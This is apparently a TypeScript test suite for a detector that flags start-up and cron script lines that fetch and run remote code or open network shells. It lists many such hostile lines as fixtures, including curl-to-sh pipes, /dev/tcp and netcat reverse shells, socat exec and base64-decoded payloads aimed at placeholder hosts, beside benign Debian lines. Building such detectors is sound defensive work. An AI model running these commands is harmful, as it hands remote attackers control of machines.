import assert from 'node:assert/strict';
import fc from 'fast-check';
import { remoteExecution, scanScript, stripShellComment, type RemoteExecKind } from '../../agent/audit/parsers/remote-exec.js';

// Lines that download and run remote code, or hand a shell to the network, in start-up files,
// boot scripts and cron jobs; and the ordinary lines of real start-up files that must not match.

const DANGEROUS: [string, RemoteExecKind][] = [
  ['curl -fsSL https://get.example.com/install.sh | sh', 'download-piped-to-interpreter'],
  ['curl -s http://203.0.113.9/x|bash', 'download-piped-to-interpreter'],
  ['wget -qO- http://203.0.113.9/p | bash -s -- --quiet', 'download-piped-to-interpreter'],
  ['wget -O - http://203.0.113.9/p | sudo -E bash', 'download-piped-to-interpreter'],
  ['/usr/bin/curl -k https://x.example/a.py | python3 -', 'download-piped-to-interpreter'],
  ['curl http://x.example/s | tee /tmp/log | /bin/sh', 'download-piped-to-interpreter'],
  ['(curl -s http://x.example/s || wget -qO- http://x.example/s) | sh', 'download-piped-to-interpreter'],
  ['sh -c "$(curl -fsSL https://raw.example.com/install.sh)"', 'interpreter-runs-download'],
  ['bash <(wget -qO- http://x.example/a)', 'interpreter-runs-download'],
  ['eval "$(curl -s http://x.example/env)"', 'interpreter-runs-download'],
  ['source <(curl -s http://x.example/rc)', 'interpreter-runs-download'],
  ['. <(curl -s http://x.example/rc)', 'interpreter-runs-download'],
  ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'dev-tcp'],
  ['exec 5<>/dev/tcp/evil.example/80', 'dev-tcp'],
  ['cat < /dev/udp/203.0.113.9/53', 'dev-tcp'],
  ['echo ZWNobyBoaQ== | base64 -d | sh', 'decoded-payload-executed'],
  ['echo ZWNobyBoaQ== | base64 --decode | bash', 'decoded-payload-executed'],
  ['bash -c "$(echo ZWNobyBoaQ== | base64 -d)"', 'decoded-payload-executed'],
  ['nc -e /bin/sh 203.0.113.9 4444', 'netcat-exec'],
  ['ncat --exec /bin/bash evil.example 443', 'netcat-exec'],
  ['nc.traditional -lvnp 4444 -e /bin/bash', 'netcat-exec'],
  ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f', 'shell-piped-to-netcat'],
  ['socat tcp-connect:203.0.113.9:4444 exec:/bin/sh,pty,stderr', 'socat-exec'],
  ['python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444))\'', 'interpreter-socket'],
  ['perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"))\'', 'interpreter-socket'],
  ['wget http://s3.amazonaws.com/ec2-downloads/ec2-ami-tools.noarch.rpm && rpm -Uvh ec2-ami-tools.noarch.rpm', 'download-then-run'],
  ['curl -o /tmp/u.sh https://x.example/u.sh; chmod +x /tmp/u.sh; /tmp/u.sh', 'download-then-run'],
  ['curl -sO https://x.example/agent.deb && dpkg -i agent.deb', 'download-then-run'],
  ['wget https://x.example/run.sh && bash run.sh', 'download-then-run'],
  ['/bin/bash -c "wget -qO- http://203.0.113.9/s | bash"', 'download-piped-to-interpreter'],
  ["sudo sh -c 'nc -e /bin/sh 203.0.113.9 4444'", 'netcat-exec'],
  ['su -s /bin/sh -c "bash -lc \\"curl -s http://x.example/a | sh\\"" nobody', 'download-piped-to-interpreter'],
];

// Lines from Debian 12's /etc/profile, /etc/bash.bashrc, /etc/skel/.bashrc and .profile, and
// ordinary lines a cloud image's rc.local and crontabs hold.
const BENIGN = [
  'if [ "$(id -u)" -eq 0 ]; then',
  '  PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"',
  'export PATH',
  'if [ "${PS1-}" ]; then',
  '  if [ "${BASH-}" ] && [ "$BASH" != "/bin/sh" ]; then',
  '    # The file bash.bashrc already sets the default PS1.',
  '    if [ -f /etc/bash.bashrc ]; then',
  '      . /etc/bash.bashrc',
  'if [ -d /etc/profile.d ]; then',
  '  for i in /etc/profile.d/*.sh; do',
  '    if [ -r $i ]; then',
  '      . $i',
  '  unset i',
  '[ -z "$PS1" ] && return',
  'shopt -s checkwinsize',
  'if [ -z "${debian_chroot:-}" ] && [ -r /etc/debian_chroot ]; then',
  '    debian_chroot=$(cat /etc/debian_chroot)',
  "PS1='${debian_chroot:+($debian_chroot)}\\u@\\h:\\w\\$ '",
  'if [ -x /usr/lib/command-not-found -o -x /usr/share/command-not-found/command-not-found ]; then',
  '\tfunction command_not_found_handle {',
  '                   /usr/lib/command-not-found -- "$1"',
  'case $- in',
  '    *i*) ;;',
  '      *) return;;',
  'HISTCONTROL=ignoreboth',
  'shopt -s histappend',
  'HISTSIZE=1000',
  '[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"',
  '    test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"',
  "    alias ls='ls --color=auto'",
  "alias ll='ls -l'",
  'alias alert=\'notify-send --urgency=low -i "$([ $? = 0 ] && echo terminal || echo error)" "$(history|tail -n1|sed -e \'\\\'\'s/^\\s*[0-9]\\+\\s*//;s/[;&|]\\s*alert$//\'\\\'\')"\'',
  'if [ -f ~/.bash_aliases ]; then',
  '    . ~/.bash_aliases',
  '  if [ -f /usr/share/bash-completion/bash_completion ]; then',
  'if [ -n "$BASH_VERSION" ]; then',
  '    if [ -f "$HOME/.bashrc" ]; then',
  '\t. "$HOME/.bashrc"',
  'if [ -d "$HOME/bin" ] ; then',
  '    PATH="$HOME/bin:$PATH"',
  'mesg n 2> /dev/null || true',
  'umask 022',
  '# curl -s http://example.com/install.sh | sh   (commented out)',
  '#!/bin/sh -e',
  'exit 0',
  'KEY=$(curl -s http://169.254.169.254/latest/meta-data/public-keys/0/openssh-key)',
  'curl http://169.254.169.254/2009-04-04/meta-data/public-keys/0/openssh-key > /tmp/my-key',
  'if [ $? -eq 0 ] ; then cat /tmp/my-key >> /root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys; rm /tmp/my-key; fi',
  'curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/0123',
  'wget -q -O /var/lib/app/feed.json https://feeds.example.com/feed.json',
  'test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )',
  '[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi',
  'echo "base64 -d is how you decode" > /dev/null',
  'nc -z localhost 22 && echo ssh up',
  'python3 -m http.server --help > /dev/null',
  'sync && /sbin/sysctl vm.drop_caches=3 && swapoff -a && swapon -a',
  'ssh-keygen -A',
  'echo "see /dev/tcp in the bash manual"   # a comment mentioning /dev/tcp/1.2.3.4/80',
  '/bin/sh -c "echo hello | logger -t boot"',
  "bash -c 'curl -fsS -o /dev/null https://hc-ping.com/0123'",
];

describe('audit: remote execution detection', () => {
  for (const [line, kind] of DANGEROUS) {
    it(`flags ${kind}: ${line.slice(0, 70)}`, () => {
      const m = remoteExecution(line);
      assert.ok(m, 'not detected');
      assert.equal(m.kind, kind);
    });
  }

  it('leaves the lines of Debian\'s start-up files, commented-out lines and metadata fetches alone', () => {
    for (const line of BENIGN) assert.equal(remoteExecution(line), null, line);
  });

  it('strips shell comments but not a "#" inside quotes or a word', () => {
    assert.equal(stripShellComment('echo a # b'), 'echo a ');
    assert.equal(stripShellComment('echo "a # b"'), 'echo "a # b"');
    assert.equal(stripShellComment("echo 'x#y' #z"), "echo 'x#y' ");
    assert.equal(stripShellComment('echo ${#var}'), 'echo ${#var}');
  });

  it('reports file lines, joining backslash continuations', () => {
    const text = '#!/bin/sh\n# setup\necho hi\ncurl -fsSL \\\n  https://x.example/i.sh \\\n  | sh\nexit 0\n';
    const found = scanScript(text);
    assert.equal(found.length, 1);
    assert.equal(found[0]?.line, 4);
    assert.equal(found[0]?.kind, 'download-piped-to-interpreter');
    assert.match(found[0]?.text ?? '', /^curl -fsSL .*\| sh$/);
  });

  // Property: a line that holds none of the words every shape needs (a downloader, a decoder,
  // netcat/socat, /dev/tcp, an interpreter with a socket) never matches, however it is built.
  const TRIGGER = /\b(?:curl|wget|fetch|aria2c|nc|ncat|netcat|socat|base64|base32|openssl|xxd|uudecode)\b|\/dev\/(?:tcp|udp)|socket|fsockopen/i;
  const WORDS = ['export', 'PATH=$PATH:/usr/local/bin', 'alias', "ll='ls -l'", 'if', '[', '-f', '~/.bash_aliases', ']', ';', 'then', '.', 'fi', 'echo', '"hello"',
    'umask', '022', '|', '||', '&&', 'grep', '-v', 'less', 'cat', 'tee', '>', '/tmp/log', 'sh', 'bash', '-c', 'eval', '"$(dircolors -b)"', 'source', 'sudo', 'python3',
    '$(id -u)', '`date`', '<(ls)', '#', 'chmod', '+x', './run', 'rpm', '-Uvh', 'x.rpm', 'http://example.com/a', 'dpkg', '-i', 'perl', '-e', '2>&1', '/bin/sh'];

  it('never flags lines built from benign words (fast-check)', () => {
    fc.assert(fc.property(fc.array(fc.constantFrom(...WORDS), { maxLength: 14 }), (words) => {
      assert.equal(remoteExecution(words.join(' ')), null);
    }), { numRuns: 2000 });
  });

  it('never flags arbitrary text without a trigger word, and never throws (fast-check)', () => {
    fc.assert(fc.property(fc.string({ maxLength: 200 }), (text) => {
      const m = remoteExecution(text);
      if (!TRIGGER.test(text)) assert.equal(m, null);
    }), { numRuns: 3000 });
  });

  it('always flags a download piped into a shell, whatever the URL, options and shell (fast-check)', () => {
    // URLs as they appear unquoted in a shell line (a quote or a blank would change the shell's reading).
    const url = fc.tuple(fc.constantFrom('http', 'https'), fc.domain(), fc.webPath().filter((p) => /^[A-Za-z0-9/._~%-]*$/.test(p))).map(([s, d, p]) => `${s}://${d}${p}`);
    const opts = fc.array(fc.constantFrom('-s', '-f', '-S', '-L', '-k', '-q', '-O-', '--silent', '-m 10'), { maxLength: 3 }).map((o) => o.join(' '));
    const shell = fc.constantFrom('sh', 'bash', '/bin/sh', '/usr/bin/bash', 'dash', 'zsh', 'sudo bash', 'sudo -E sh', 'python3', 'perl');
    fc.assert(fc.property(fc.constantFrom('curl', 'wget', '/usr/bin/curl'), opts, url, shell, fc.constantFrom('|', ' | ', ' |'), (tool, o, u, sh, pipe) => {
      const line = `${tool} ${o} ${u}${pipe}${sh}`;
      assert.equal(remoteExecution(line)?.kind, 'download-piped-to-interpreter', line);
    }), { numRuns: 1000 });
  });
});
